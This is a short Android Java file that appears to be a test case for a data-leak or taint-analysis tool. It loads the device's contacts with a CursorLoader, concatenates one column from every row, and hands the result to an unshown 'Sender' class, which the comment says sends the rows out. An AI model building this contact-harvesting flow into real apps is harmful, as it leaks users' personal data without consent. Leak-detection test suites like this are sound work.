// The framework's CursorLoader; the rows come to onLoadFinished and are sent from there.
package cases.cursor_loader;

import android.app.Activity;
import android.app.LoaderManager;
import android.content.CursorLoader;
import android.content.Loader;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;

public final class Main extends Activity implements LoaderManager.LoaderCallbacks<Cursor> {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        getLoaderManager().initLoader(0, null, this);
    }

    @Override
    public Loader<Cursor> onCreateLoader(int id, Bundle arguments) {
        return new CursorLoader(this, ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
    }

    @Override
    public void onLoadFinished(Loader<Cursor> loader, Cursor rows) {
        StringBuilder text = new StringBuilder();
        while (rows.moveToNext()) {
            text.append(rows.getString(1));
        }
        new Sender(text.toString()).start();
    }

    @Override
    public void onLoaderReset(Loader<Cursor> loader) {}
}
